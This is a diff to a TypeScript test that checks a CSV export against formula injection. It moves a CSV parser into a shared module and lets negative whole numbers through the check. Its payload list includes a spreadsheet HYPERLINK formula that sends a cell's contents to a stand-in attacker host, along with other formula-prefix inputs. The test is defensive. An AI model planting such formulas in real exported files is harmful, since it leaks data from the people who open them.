@@ -1,6 +1,7 @@
 import { createHandlers } from '../../lib/api/handlers';
 import { portsFromRuntime } from '../../lib/api/runtimePorts';
 import { runCli } from '../../lib/cli';
+import { parseCsv } from '../support/csv';
 import { labRuntime, type LabRuntime } from '../support/runtime';
 
 /**
@@ -9,37 +10,10 @@ import { labRuntime, type LabRuntime } from '../support/runtime';
  */
 const PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A2,"open")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
 
-/** RFC 4180 cells, enough to read back what csv-stringify wrote. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',' || ch === '\n') {
-      row.push(cell);
-      cell = '';
-      if (ch === '\n') {
-        rows.push(row);
-        row = [];
-      }
-    } else cell += ch;
-  }
-  if (cell !== '' || row.length) rows.push([...row, cell]);
-  return rows;
-}
-
 function expectNoFormulaCells(csv: string): void {
   const cells = parseCsv(csv).flat();
-  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  // A negative whole number (a deadline's days left once it passed) is data we write, not a formula.
+  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+$/.test(c))).toEqual([]);
   // The names are still there, neutralised: what the operator sees is what HCX reported, behind a quote.
   expect(cells).toContain(`'${PAYLOADS[0]}`);
 }
